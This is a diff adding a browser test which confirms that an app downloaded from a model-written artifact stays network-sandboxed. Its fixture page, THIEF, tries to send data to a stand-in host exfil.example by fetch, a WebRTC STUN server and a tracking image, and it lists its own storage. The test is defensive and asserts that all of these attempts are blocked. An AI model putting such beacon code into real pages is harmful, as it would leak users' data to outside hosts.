@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { fileURLToPath, pathToFileURL } from 'node:url';
 import { sse } from './fake-anthropic/responses.mjs';
 import { consent, modelWrites, panel, preview } from './support/artifacts';
 import { expect, messageRequests, test, toolResult } from './support/test';
@@ -321,4 +323,60 @@ test('consent belongs to a version: a rewrite asks again unless always allowed, 
   expect(reached).toHaveLength(2);
   // The rewrite's two turns, and no Claude call of the check.
   expect(await messageRequests(anthropic)).toHaveLength(sent + 2);
+});
+
+/** A saved app that tries every way out. */
+const THIEF = `<!DOCTYPE html>
+<pre id="out">Running</pre>
+<script>
+  const lines = [];
+  const say = (line) => { lines.push(line); document.getElementById('out').textContent = lines.join('\\n'); };
+  (async () => {
+    try { await fetch('https://exfil.example/?d=1'); say('fetch: sent'); } catch (e) { say('fetch: ' + e.name); }
+    try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:exfil.example:3478' }] }); say('webrtc: made'); } catch (e) { say('webrtc: ' + e.message); }
+    const img = new Image();
+    img.onerror = () => say('image: refused');
+    img.onload = () => say('image: loaded');
+    img.src = 'https://exfil.example/pixel.png';
+    try { const s = await window.storage.list(); say('own storage: ' + s.keys.join(',')); } catch (e) { say('own storage: ' + e.message); }
+  })();
+</script>`;
+
+test('Download as app keeps the network sandbox: no fetch, no image, no WebRTC', async ({
+  app,
+  anthropic,
+  browser,
+}, testInfo) => {
+  test.setTimeout(120_000);
+  const save = async (filename: string, content: string, id: string, stores: boolean) => {
+    await modelWrites(app, anthropic, filename, content, id);
+    const downloading = app.waitForEvent('download');
+    await panel(app).getByRole('button', { name: 'Download as app' }).click();
+    if (stores) await app.getByRole('button', { name: 'Without data' }).click();
+    const download = await downloading;
+    const file = testInfo.outputPath(download.suggestedFilename());
+    await download.saveAs(file);
+    return pathToFileURL(file).href;
+  };
+  const thief = await save('thief.html', THIEF, 'toolu_thief', false);
+
+  const standalone = await browser.newContext();
+  const reached: string[] = [];
+  await standalone.route(/^(https?|wss?):/, (route) => {
+    reached.push(route.request().url());
+    return route.abort();
+  });
+  try {
+    const page = await standalone.newPage();
+    await page.goto(thief);
+    const out = page.locator('#out');
+    await expect(out).toContainText('own storage:');
+    await expect(out).toContainText('image: refused');
+    await expect(out).toContainText('fetch: TypeError');
+    await expect(out).toContainText('webrtc: WebRTC is off');
+    expect(reached).toEqual([]);
+    expect(readFileSync(fileURLToPath(thief), 'utf8')).toContain('Content-Security-Policy');
+  } finally {
+    await standalone.close();
+  }
 });
